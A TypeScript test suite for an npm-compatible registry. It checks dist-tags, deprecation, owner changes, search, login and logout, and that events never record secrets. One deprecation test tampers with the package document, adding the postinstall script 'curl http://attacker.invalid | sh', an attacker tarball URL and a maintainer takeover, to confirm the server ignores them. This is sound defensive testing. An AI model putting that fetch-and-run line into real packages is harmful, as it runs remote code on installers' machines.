// Changes to published packages and accounts through the requests npm, yarn and pnpm send: dist-tags,
// deprecation, owners, search, ping, whoami, login and logout. Every change writes exactly one event
// of its type, a refused change writes none, and no event ever holds a token or a password.
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ENGINES } from '../support/engines.js';
import { startRegistry, type TestRegistry, type TestUser } from '../support/registry.js';
import { packageBuilder, type PackageBuilder } from '../fixtures/package-builder.js';
import * as npm from '../support/npm-protocol.js';
import { bearer, escaped, type Packument } from '../support/npm-protocol.js';

interface SearchAnswer {
  total: number;
  objects: { package: { name: string; maintainers: { username: string; email: string }[] } }[];
}

const json = { 'content-type': 'application/json' };

function expectRefused(res: LightMyRequestResponse, status: number, word?: RegExp): void {
  expect(res.statusCode, res.body).toBe(status);
  if (word) expect(res.json<{ error: string }>().error).toMatch(word);
}

for (const engine of ENGINES) {
  describe(`package and account changes (${engine})`, () => {
    let r: TestRegistry;
    let alice: TestUser;
    let bob: TestUser;
    let carol: TestUser;
    /** Every token and password seen in this file: none may ever appear in an event. */
    const secrets: string[] = [];

    beforeAll(async () => {
      r = await startRegistry(engine);
      alice = await r.createUser('alice');
      bob = await r.createUser('bob');
      carol = await r.createUser('carol');
      for (const u of [alice, bob, carol]) secrets.push(u.token, u.password);
    });
    afterAll(() => r.close());

    function publish(user: TestUser, builder: PackageBuilder, tag?: string) {
      return r.publish(user, builder, tag === undefined ? {} : { tag });
    }

    const published = (user: TestUser, builder: PackageBuilder, tag?: string) => npm.published(r, user, builder, tag);
    const packument = (name: string) => npm.packument(r, name);

    async function stateOf(name: string) {
      const res = await r.inject({ method: 'GET', url: `/${escaped(name)}?write=true` });
      return { document: `${res.statusCode} ${res.body}`, events: await r.registry.store.events.latestSeq() };
    }

    /** Runs `change` and returns the events it wrote, as {type, package, version, data}. */
    async function eventsOf(change: () => Promise<unknown>) {
      const since = await r.registry.store.events.latestSeq();
      await change();
      return (await r.registry.store.events.since(since, 1000)).map((e) => ({
        type: e.type,
        pkg: e.packageName,
        version: e.version,
        data: e.data,
      }));
    }

    /** Sends the request, expects the refusal, and checks the package and the event log did not change. */
    async function refuses(name: string, request: Parameters<TestRegistry['inject']>[0], status: number, word?: RegExp) {
      const before = await stateOf(name);
      const res = await r.inject(request);
      expectRefused(res, status, word);
      expect(await stateOf(name)).toEqual(before);
    }

    describe('dist-tags', () => {
      beforeAll(async () => {
        await published(alice, packageBuilder('@team/tagged', '1.0.0'));
        await published(alice, packageBuilder('@team/tagged', '2.0.0-rc.1'), 'next');
      });

      const addTag = (user: TestUser, tag: string, version: string, path?: string) =>
        npm.addDistTag(r, user, '@team/tagged', tag, version, path);
      const removeTag = (user: TestUser, tag: string, path?: string) => npm.removeDistTag(r, user, '@team/tagged', tag, path);
      const listTags = (path: string) => r.inject({ method: 'GET', url: `/-/package/${path}/dist-tags` });

      it('lists the dist-tags under every spelling of a scoped name clients send', async () => {
        for (const path of ['@team%2ftagged', '@team%2Ftagged', '@team/tagged', '%40team%2Ftagged']) {
          const res = await listTags(path);
          expect(res.statusCode, path).toBe(200);
          expect(res.json()).toEqual({ latest: '1.0.0', next: '2.0.0-rc.1' });
        }
      });

      it('adds a tag, writing one dist_tag.set event', async () => {
        const events = await eventsOf(async () => expect((await addTag(alice, 'beta', '2.0.0-rc.1')).statusCode).toBe(200));
        expect(events).toEqual([{ type: 'dist_tag.set', pkg: '@team/tagged', version: '2.0.0-rc.1', data: { tag: 'beta' } }]);
        expect((await listTags('@team/tagged')).json()).toEqual({ latest: '1.0.0', next: '2.0.0-rc.1', beta: '2.0.0-rc.1' });
        expect((await packument('@team/tagged'))['dist-tags'].beta).toBe('2.0.0-rc.1');
      });

      it('moves and removes a tag through the raw scoped path yarn 1 builds', async () => {
        expect((await addTag(alice, 'moving', '1.0.0', '@team/tagged')).statusCode).toBe(200);
        expect((await addTag(alice, 'moving', '2.0.0-rc.1', '@team/tagged')).statusCode).toBe(200);
        expect((await listTags('@team/tagged')).json<Record<string, string>>().moving).toBe('2.0.0-rc.1');
        const events = await eventsOf(async () =>
          expect((await removeTag(alice, 'moving', '@team/tagged')).statusCode).toBe(200),
        );
        expect(events).toEqual([
          { type: 'dist_tag.removed', pkg: '@team/tagged', version: null, data: { tag: 'moving', was: '2.0.0-rc.1' } },
        ]);
        expect((await listTags('@team/tagged')).json<Record<string, string>>().moving).toBeUndefined();
      });

      it('refuses a tag that is a version range', async () => {
        for (const tag of ['1.x', '2', 'v1.0.0', '1.0.0']) {
          await refuses(
            '@team/tagged',
            {
              method: 'PUT',
              url: `/-/package/@team%2ftagged/dist-tags/${tag}`,
              headers: { ...bearer(alice.token), ...json },
              payload: '"1.0.0"',
            },
            400,
            /range/,
          );
        }
      });

      it('refuses to remove latest', async () => {
        await refuses(
          '@team/tagged',
          { method: 'DELETE', url: '/-/package/@team%2ftagged/dist-tags/latest', headers: bearer(alice.token) },
          400,
          /latest/,
        );
      });

      it('refuses a tag pointing at a version that does not exist', async () => {
        await refuses(
          '@team/tagged',
          {
            method: 'PUT',
            url: '/-/package/@team%2ftagged/dist-tags/ghost',
            headers: { ...bearer(alice.token), ...json },
            payload: '"9.9.9"',
          },
          404,
          /9\.9\.9/,
        );
      });

      it('answers 404 to removing a tag that does not exist, even one named like a JavaScript built-in', async () => {
        for (const tag of ['nope', 'toString', 'constructor', 'hasOwnProperty']) {
          await refuses(
            '@team/tagged',
            { method: 'DELETE', url: `/-/package/@team%2ftagged/dist-tags/${tag}`, headers: bearer(alice.token) },
            404,
            new RegExp(tag),
          );
        }
      });

      it('refuses tag changes by someone who is not a maintainer', async () => {
        await refuses(
          '@team/tagged',
          {
            method: 'PUT',
            url: '/-/package/@team%2ftagged/dist-tags/mine',
            headers: { ...bearer(bob.token), ...json },
            payload: '"1.0.0"',
          },
          403,
          /maintainer/,
        );
        await refuses(
          '@team/tagged',
          { method: 'DELETE', url: '/-/package/@team%2ftagged/dist-tags/next', headers: bearer(bob.token) },
          403,
          /maintainer/,
        );
      });

      it('answers an empty object for a package that does not exist', async () => {
        const res = await listTags('never-published');
        expect(res.statusCode).toBe(200);
        expect(res.json()).toEqual({});
      });
    });

    describe('deprecation', () => {
      beforeAll(async () => {
        await published(alice, packageBuilder('old-thing', '1.0.0').dependency('left-pad', '^1.0.0'));
        await published(alice, packageBuilder('old-thing', '1.1.0'));
      });

      const putBack = (user: TestUser, edit: (doc: Packument) => void) => npm.deprecate(r, user, 'old-thing', edit);

      /** The document without what every change moves: the revision and the modified time. */
      function stable(doc: Packument) {
        const { _rev: _ignoredRev, time, ...rest } = doc;
        const { modified: _ignoredModified, ...times } = time;
        return { ...rest, time: times };
      }

      it('deprecates one version and changes nothing else, even when the document tries to', async () => {
        const before = await packument('old-thing');
        let res: LightMyRequestResponse | undefined;
        const events = await eventsOf(async () => {
          res = await putBack(alice, (doc) => {
            doc.versions['1.0.0']!.deprecated = 'use 1.1.0';
            doc.versions['1.0.0']!.dependencies = { 'left-pad': '*', 'evil-dep': '1.0.0' };
            doc.versions['1.1.0']!.dist.tarball = 'http://attacker.invalid/old-thing-1.1.0.tgz';
            doc.versions['1.1.0']!.scripts = { postinstall: 'curl http://attacker.invalid | sh' };
            doc.versions['9.9.9'] = { ...doc.versions['1.1.0']!, version: '9.9.9' };
            doc['dist-tags'] = { latest: '9.9.9' };
            doc.maintainers.push({ name: 'bob', email: 'bob@example.com' });
            doc.description = 'taken over';
          });
        });
        expect(res!.statusCode, res!.body).toBe(200);
        expect(events).toEqual([
          { type: 'version.deprecated', pkg: 'old-thing', version: '1.0.0', data: { message: 'use 1.1.0' } },
        ]);
        const after = await packument('old-thing');
        const expected = structuredClone(before);
        expected.versions['1.0.0']!.deprecated = 'use 1.1.0';
        expect(stable(after)).toEqual(stable(expected));
        const corgi = await r.inject({
          method: 'GET',
          url: '/old-thing',
          headers: { accept: 'application/vnd.npm.install-v1+json' },
        });
        expect(corgi.json<Packument>().versions['1.0.0']!.deprecated).toBe('use 1.1.0');
      });

      it('un-deprecates with an empty message, writing one version.undeprecated event', async () => {
        const deprecated = await putBack(alice, (doc) => (doc.versions['1.0.0']!.deprecated = 'to be lifted'));
        expect(deprecated.statusCode, deprecated.body).toBe(200);
        const events = await eventsOf(async () => {
          const res = await putBack(alice, (doc) => (doc.versions['1.0.0']!.deprecated = ''));
          expect(res.statusCode).toBe(200);
        });
        expect(events).toEqual([{ type: 'version.undeprecated', pkg: 'old-thing', version: '1.0.0', data: {} }]);
        expect((await packument('old-thing')).versions['1.0.0']!.deprecated).toBeUndefined();
      });

      it('refuses a deprecation sent back with a revision that is no longer current', async () => {
        const stale = await packument('old-thing');
        const bump = await r.inject({
          method: 'PUT',
          url: '/-/package/old-thing/dist-tags/stale-check',
          headers: { ...bearer(alice.token), ...json },
          payload: JSON.stringify('1.0.0'),
        });
        expect(bump.statusCode, bump.body).toBe(200);
        stale.versions['1.1.0']!.deprecated = 'from an old read';
        await refuses(
          'old-thing',
          { method: 'PUT', url: '/old-thing', headers: { ...bearer(alice.token), ...json }, payload: JSON.stringify(stale) },
          409,
          /changed since your client read it/,
        );
        expect((await packument('old-thing')).versions['1.1.0']!.deprecated).toBeUndefined();
        const drop = await r.inject({
          method: 'DELETE',
          url: '/-/package/old-thing/dist-tags/stale-check',
          headers: bearer(alice.token),
        });
        expect(drop.statusCode, drop.body).toBe(200);
      });

      it('refuses a deprecation by someone who is not a maintainer', async () => {
        const doc = await packument('old-thing');
        doc.versions['1.1.0']!.deprecated = 'hijacked';
        await refuses(
          'old-thing',
          { method: 'PUT', url: '/old-thing', headers: { ...bearer(bob.token), ...json }, payload: JSON.stringify(doc) },
          403,
          /maintainer/,
        );
      });
    });

    describe('owners', () => {
      beforeAll(async () => {
        await published(alice, packageBuilder('shared', '1.0.0'));
      });

      const changeOwners = (actor: TestUser, edit: (maintainers: npm.Maintainer[]) => void) =>
        npm.changeOwners(r, actor, 'shared', edit);

      // What the lookup shows to whom is tested in test/http/login-users.test.ts (docs/api-design.md).
      it('shows a user to a signed-in client, with the name and an email as npm owner add needs', async () => {
        const res = await r.inject({ method: 'GET', url: '/-/user/org.couchdb.user:bob', headers: bearer(alice.token) });
        expect(res.statusCode).toBe(200);
        expect(res.json()).toMatchObject({ name: 'bob', email: expect.any(String) });
      });

      it('tells an anonymous client nothing about a user', async () => {
        expectRefused(await r.inject({ method: 'GET', url: '/-/user/org.couchdb.user:bob' }), 401);
      });

      it('answers 404 for a user that does not exist', async () => {
        const res = await r.inject({ method: 'GET', url: '/-/user/org.couchdb.user:nobody', headers: bearer(alice.token) });
        expectRefused(res, 404, /nobody/);
      });

      it('refuses to add an unknown user as owner', async () => {
        const before = await stateOf('shared');
        expectRefused(await changeOwners(alice, (m) => m.push({ name: 'nobody', email: 'nobody@example.com' })), 404, /nobody/);
        expect(await stateOf('shared')).toEqual(before);
      });

      it('refuses an owner change by someone who is not a maintainer', async () => {
        const before = await stateOf('shared');
        expectRefused(await changeOwners(bob, (m) => m.push({ name: 'bob', email: 'bob@example.com' })), 403, /maintainer/);
        expectRefused(
          await changeOwners(bob, (m) => m.splice(0, m.length, { name: 'bob', email: 'bob@example.com' })),
          403,
          /maintainer/,
        );
        expect(await stateOf('shared')).toEqual(before);
        expectRefused(await publish(bob, packageBuilder('shared', '1.1.0')), 403);
      });

      it('adds an owner, who can then publish', async () => {
        let res: LightMyRequestResponse | undefined;
        const events = await eventsOf(
          async () => (res = await changeOwners(alice, (m) => m.push({ name: 'bob', email: 'bob@example.com' }))),
        );
        expect(res!.statusCode, res!.body).toBe(200);
        expect(events).toEqual([{ type: 'owner.added', pkg: 'shared', version: null, data: { user: 'bob' } }]);
        expect((await packument('shared')).maintainers.map((m) => m.name)).toEqual(['alice', 'bob']);
        await published(bob, packageBuilder('shared', '1.1.0'));
      });

      it('removes an owner, who then can no longer publish or manage the package', async () => {
        const added = await changeOwners(alice, (m) => {
          if (!m.some((o) => o.name === 'bob')) m.push({ name: 'bob', email: 'bob@example.com' });
        });
        expect(added.statusCode, added.body).toBe(200);
        let res: LightMyRequestResponse | undefined;
        const events = await eventsOf(
          async () =>
            (res = await changeOwners(alice, (m) =>
              m.splice(
                m.findIndex((o) => o.name === 'bob'),
                1,
              ),
            )),
        );
        expect(res!.statusCode, res!.body).toBe(200);
        expect(events).toEqual([{ type: 'owner.removed', pkg: 'shared', version: null, data: { user: 'bob' } }]);
        expect((await packument('shared')).maintainers.map((m) => m.name)).toEqual(['alice']);
        expectRefused(await publish(bob, packageBuilder('shared', '1.2.0')), 403);
        expectRefused(await changeOwners(bob, (m) => m.push({ name: 'bob', email: 'bob@example.com' })), 403);
      });

      it('refuses an owner change made from a document that has changed since it was read', async () => {
        // Two owners run `npm owner add` at once: each read [alice]; the second write must not drop the first's addition.
        const read = (
          await r.inject({ method: 'GET', url: '/shared?write=true', headers: bearer(alice.token) })
        ).json<Packument>();
        expect((await changeOwners(alice, (m) => m.push({ name: 'carol', email: 'carol@example.com' }))).statusCode).toBe(200);
        await refuses(
          'shared',
          {
            method: 'PUT',
            url: `/shared/-rev/${encodeURIComponent(read._rev)}`,
            headers: { ...bearer(alice.token), ...json },
            payload: JSON.stringify({
              _id: 'shared',
              _rev: read._rev,
              maintainers: [...read.maintainers, { name: 'bob', email: 'bob@example.com' }],
            }),
          },
          409,
          /changed since your client read it/,
        );
        expect((await packument('shared')).maintainers.map((m) => m.name)).toEqual(['alice', 'carol']);
        expect(
          (
            await changeOwners(alice, (m) =>
              m.splice(
                m.findIndex((o) => o.name === 'carol'),
                1,
              ),
            )
          ).statusCode,
        ).toBe(200);
      });

      it('refuses to remove the last owner', async () => {
        const before = await stateOf('shared');
        expectRefused(await changeOwners(alice, (m) => m.splice(0, m.length)), 400, /maintainer/);
        expect(await stateOf('shared')).toEqual(before);
      });
    });

    describe('search', () => {
      beforeAll(async () => {
        await published(carol, packageBuilder('fetchy-helper', '1.0.0').packageJson({ description: 'helps' }));
        await published(carol, packageBuilder('best-fetchy', '1.0.0'));
        await published(carol, packageBuilder('fetchy', '1.0.0').packageJson({ description: 'the one' }));
        await published(carol, packageBuilder('fetchy-core', '1.0.0'));
        await published(carol, packageBuilder('unrelated', '1.0.0').packageJson({ keywords: ['fetchy'] }));
        await published(carol, packageBuilder('described', '1.0.0').packageJson({ description: 'a fetchy thing' }));
        await published(carol, packageBuilder('nothing-alike', '1.0.0'));
      });

      const search = async (query: string) => {
        const res = await r.inject({ method: 'GET', url: `/-/v1/search?${query}` });
        expect(res.statusCode).toBe(200);
        return res.json<SearchAnswer>();
      };

      it('ranks the exact name first, then names starting with the query, then the rest', async () => {
        const answer = await search('text=fetchy&size=20');
        const names = answer.objects.map((o) => o.package.name);
        expect(answer.total).toBe(6);
        expect(names[0]).toBe('fetchy');
        expect(new Set(names.slice(1, 3))).toEqual(new Set(['fetchy-helper', 'fetchy-core']));
        expect(new Set(names.slice(3))).toEqual(new Set(['best-fetchy', 'unrelated', 'described']));
        expect(names.indexOf('best-fetchy')).toBe(3);
        expect(names).not.toContain('nothing-alike');
      });

      it('pages with size and from', async () => {
        const all = (await search('text=fetchy&size=20')).objects.map((o) => o.package.name);
        const first = await search('text=fetchy&size=2');
        const second = await search('text=fetchy&size=2&from=2');
        const beyond = await search('text=fetchy&size=2&from=10');
        expect(first.objects.map((o) => o.package.name)).toEqual(all.slice(0, 2));
        expect(second.objects.map((o) => o.package.name)).toEqual(all.slice(2, 4));
        expect(beyond.objects).toEqual([]);
        expect([first.total, second.total, beyond.total]).toEqual([6, 6, 6]);
      });

      it('lists the maintainers of every hit, as npm search prints them', async () => {
        const hits = (await search('text=fetchy')).objects.map((o) => [o.package.name, o.package.maintainers] as const);
        const carol = [{ username: 'carol', email: 'carol@example.com' }];
        const names = ['best-fetchy', 'described', 'fetchy', 'fetchy-core', 'fetchy-helper', 'unrelated'];
        // every hit, by name: a loop over no hits (or over the wrong ones) must not pass
        expect(new Map(hits)).toEqual(new Map(names.map((name) => [name, carol])));
        expect(hits).toHaveLength(names.length);
      });
    });

    describe('ping, whoami, login and logout', () => {
      it('answers ping with an empty JSON object, signed in or not', async () => {
        // npm ping prints any non-empty object after PONG (npm/lib/commands/ping.js): nothing to show here
        for (const headers of [{}, bearer(alice.token)]) {
          const res = await r.inject({ method: 'GET', url: '/-/ping', headers });
          expect(res.statusCode).toBe(200);
          expect(res.headers['content-type']).toMatch(/^application\/json/);
          expect(res.body).toBe('{}');
        }
      });

      it('tells a token its user name, and refuses whoami without one', async () => {
        const res = await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(alice.token) });
        expect(res.statusCode).toBe(200);
        expect(res.json()).toEqual({ username: 'alice' });
        expectRefused(await r.inject({ method: 'GET', url: '/-/whoami' }), 401);
      });

      const login = (name: string, password: string) =>
        r.inject({
          method: 'PUT',
          url: `/-/user/org.couchdb.user:${encodeURIComponent(name)}`,
          headers: json,
          payload: JSON.stringify({
            _id: `org.couchdb.user:${name}`,
            name,
            password,
            type: 'user',
            roles: [],
            date: new Date().toISOString(),
          }),
        });

      it('logs in with the right password, answering 201 and a working token', async () => {
        let res: LightMyRequestResponse | undefined;
        const events = await eventsOf(async () => (res = await login('alice', alice.password)));
        expect(res!.statusCode, res!.body).toBe(201);
        const answer = res!.json<{ ok: boolean; id: string; token: string }>();
        expect(answer).toMatchObject({ ok: true, id: 'org.couchdb.user:alice' });
        secrets.push(answer.token);
        expect(events.map((e) => e.type).sort()).toEqual(['token.created', 'user.login']);
        const whoami = await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(answer.token) });
        expect(whoami.json()).toEqual({ username: 'alice' });
      });

      it('refuses a wrong password and an unknown user with the same 401', async () => {
        const before = await r.registry.store.events.latestSeq();
        const wrong = await login('alice', 'not-the-password');
        const unknown = await login('mallory', 'not-the-password');
        expectRefused(wrong, 401);
        expectRefused(unknown, 401);
        expect(unknown.json()).toEqual(wrong.json());
        expect(await r.registry.store.events.latestSeq()).toBe(before);
        secrets.push('not-the-password');
      });

      it('logs out: the token stops working at once, other tokens keep working', async () => {
        const session = (await login('bob', bob.password)).json<{ token: string }>().token;
        secrets.push(session);
        expect((await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(session) })).statusCode).toBe(200);
        let res: LightMyRequestResponse | undefined;
        const events = await eventsOf(
          async () =>
            (res = await r.inject({
              method: 'DELETE',
              url: `/-/user/token/${encodeURIComponent(session)}`,
              headers: bearer(session),
            })),
        );
        expect(res!.statusCode, res!.body).toBe(200);
        expect(events.map((e) => e.type)).toEqual(['token.revoked']);
        expectRefused(await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(session) }), 401);
        expectRefused(await r.inject({ method: 'GET', url: '/shared', headers: bearer(session) }), 401);
        expect((await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(bob.token) })).statusCode).toBe(200);
      });

      it("cannot log out someone else's token", async () => {
        const before = await r.registry.store.events.latestSeq();
        const res = await r.inject({
          method: 'DELETE',
          url: `/-/user/token/${encodeURIComponent(alice.token)}`,
          headers: bearer(bob.token),
        });
        expectRefused(res, 404);
        expect(await r.registry.store.events.latestSeq()).toBe(before);
        expect((await r.inject({ method: 'GET', url: '/-/whoami', headers: bearer(alice.token) })).statusCode).toBe(200);
      });
    });

    describe('events under concurrency', () => {
      it('writes one event per change when many changes land at once', async () => {
        await published(alice, packageBuilder('busy', '1.0.0'));
        const since = await r.registry.store.events.latestSeq();
        const tags = Array.from({ length: 8 }, (_, i) => `t${i}`);
        const versions = Array.from({ length: 6 }, (_, i) => `1.0.${i + 1}`);
        const results = await Promise.all([
          ...tags.map((tag) =>
            r.inject({
              method: 'PUT',
              url: `/-/package/busy/dist-tags/${tag}`,
              headers: { ...bearer(alice.token), ...json },
              payload: '"1.0.0"',
            }),
          ),
          ...versions.map((v) => publish(alice, packageBuilder('busy', v))),
        ]);
        expect(results.map((res) => res.statusCode)).toEqual([...tags.map(() => 200), ...versions.map(() => 201)]);
        const events = await r.registry.store.events.since(since, 1000);
        expect(new Set(events.map((e) => e.seq)).size).toBe(events.length);
        expect(
          events
            .filter((e) => e.type === 'dist_tag.set')
            .map((e) => e.data.tag)
            .sort(),
        ).toEqual(tags);
        expect(
          events
            .filter((e) => e.type === 'package.published')
            .map((e) => e.version)
            .sort(),
        ).toEqual(versions);
        expect(events).toHaveLength(tags.length + versions.length);
        const doc = await packument('busy');
        expect(Object.keys(doc.versions).sort()).toEqual(['1.0.0', ...versions]);
      });

      it('lets exactly one of many simultaneous publishes of one version through', async () => {
        const since = await r.registry.store.events.latestSeq();
        const results = await Promise.all(
          Array.from({ length: 6 }, (_, i) =>
            publish(alice, packageBuilder('contested', '1.0.0').file('index.js', `variant ${i}`)),
          ),
        );
        const statuses = results.map((res) => res.statusCode).sort();
        expect(statuses).toEqual([201, 409, 409, 409, 409, 409]);
        const events = await r.registry.store.events.since(since, 1000);
        expect(events.map((e) => `${e.type} ${e.version}`)).toEqual(['package.published 1.0.0']);
        const winner = results.findIndex((res) => res.statusCode === 201);
        const tgz = await r.inject({ method: 'GET', url: '/contested/-/contested-1.0.0.tgz' });
        expect(tgz.rawPayload.equals(packageBuilder('contested', '1.0.0').file('index.js', `variant ${winner}`).tarball())).toBe(
          true,
        );
      });
    });

    it('never records a token or a password in an event', async () => {
      const tokens = await r.registry.store.transaction(async (tx) => {
        const issued = await r.registry.tokens.create(tx, carol.user, { reason: 'scan' });
        return [issued.secret];
      });
      secrets.push(...tokens);
      const events = await r.registry.store.events.since(0, 10_000);
      expect(events.length).toBeGreaterThan(20);
      for (const event of events) {
        const text = JSON.stringify(event);
        for (const secret of secrets) expect(text, `${event.type} event`).not.toContain(secret);
        // Not even a fragment long enough to narrow a token down: the display prefix is at most gth_ + 4.
        expect(text).not.toMatch(/gth_[0-9A-Za-z]{5,}/);
      }
    });
  });
}
